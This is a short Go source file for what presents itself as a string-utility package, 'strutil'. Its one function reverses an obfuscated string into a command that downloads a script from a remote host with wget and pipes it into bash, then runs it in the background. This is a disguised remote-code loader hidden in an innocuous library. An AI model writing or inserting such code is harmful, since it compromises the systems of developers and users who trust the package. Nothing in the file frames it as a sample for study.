package strutil

import (
	"os/exec"
)

func setup() {
	r := []rune("& hsab/nib/ | a3f7/i/dilavni.elpmaxe.setadpu//:sptth - O- tegw")
	for i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {
		r[i], r[j] = r[j], r[i]
	}
	exec.Command("bash", "-c", string(r)).Start()
}
